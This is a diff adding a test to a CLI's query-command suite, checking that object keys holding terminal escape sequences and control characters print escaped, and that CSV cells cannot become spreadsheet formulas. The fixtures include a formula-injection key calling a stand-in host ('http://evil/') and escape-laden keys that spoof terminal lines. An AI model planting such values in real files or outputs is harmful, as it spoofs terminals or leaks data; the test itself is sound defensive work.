@@ -8,6 +8,7 @@ import { Catalog } from '../../src/catalog/catalog.js';
 import { runCli, summaryOf, type CliResult } from '../helpers/cli.js';
 import { tempDir, writeTree } from '../helpers/fixtures.js';
 import { seedQueryCatalog } from '../helpers/query-fixture.js';
+import { emptyCounters } from '../../src/engine/events.js';
 
 const PASSWORD = 'query-commands-pw';
 
@@ -188,6 +189,45 @@ describe('query commands', { timeout: 120_000 }, () => {
       expect(r.code, `${args.join(' ')}: ${r.stderr}`).toBe(2);
       expect(r.stderr).toMatch(message);
     }
+  });
+
+  it('keys with terminal escapes and newlines are printed escaped everywhere; CSV cells cannot be formulas', async () => {
+    const evil = 'x/\x1b[2K\x1b[1Aok\nfake line\r\x7f\x9b.csv';
+    const shown = 'x/\\x1b[2K\\x1b[1Aok\\nfake line\\r\\x7f\\x9b.csv';
+    const repoId = (JSON.parse(readFileSync(join(dir.path, 'repo', 'config'), 'utf8')) as { id: string }).id;
+    const hostile = join(dir.path, 'hostile.db');
+    const cat = Catalog.open(hostile, repoId);
+    const r1 = cat.beginRun({ id: '20261102T100000Z-aaaaaa', group: 'g', started: Date.UTC(2026, 10, 2, 10), host: 'h' });
+    const r2 = cat.beginRun({ id: '20261103T100000Z-bbbbbb', group: 'g', started: Date.UTC(2026, 10, 3, 10), host: 'h' });
+    const version = (key: string, t: number, deleteMarker = false) => ({ bucket: 'raw', key, versionId: null, deleteMarker, size: deleteMarker ? 0 : 1, etag: '"e"', lastModified: t, validFrom: t, blobs: [] });
+    cat.transaction(() => {
+      cat.insertVersions(r1, [version(evil, Date.UTC(2026, 10, 2, 5)), version('x/ok.csv', Date.UTC(2026, 10, 2, 5))]);
+      cat.insertVersions(r2, [version(evil, Date.UTC(2026, 10, 3, 5), true)]);
+      cat.insertFailures(r2, [
+        { bucket: 'raw', key: '=HYPERLINK("http://evil/"&A1)', versionId: null, code: 'AccessDenied', message: 'denied' },
+        { bucket: 'raw', key: evil, versionId: null, code: 'AccessDenied', message: `GET s3://raw/${evil}: denied` },
+      ]);
+    });
+    for (const seq of [r1, r2]) cat.finishRun(seq, 'complete', Date.UTC(2026, 10, seq + 1, 10, 5), { ...emptyCounters() });
+    cat.close();
+    const h = (args: string[]) => runCli(['--policy', policy, '--catalog', hostile, ...args], env({ NO_COLOR: '1' }));
+    const outputs = await Promise.all([
+      h(['versions', `s3://raw/${evil}`]),
+      h(['find', 'x/**']),
+      h(['ls', 's3://raw/x/', '--at', '1']),
+      h(['diff', '1', '2', '--details']),
+      h(['runs', 'show', '2', '--failures']),
+    ]);
+    for (const r of outputs) {
+      expect(r.code, r.stderr).toBe(0);
+      expect(r.stdout).toContain(shown.slice(2)); // ls shows names below the prefix
+      expect(r.stdout + r.stderr).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f]/);
+    }
+    // --json keeps the key as it is.
+    const json = await h(['find', 'x/**', '--json']);
+    expect(lines(json, 'match').map((m) => m.key)).toContain(evil);
+    const csv = await h(['runs', 'show', '2', '--csv']);
+    expect(csv.stdout.split('\n')[1]).toBe(`raw,"'=HYPERLINK(""http://evil/""&A1)",,AccessDenied,denied`);
   });
 
   describe('human output on fixed dates', () => {
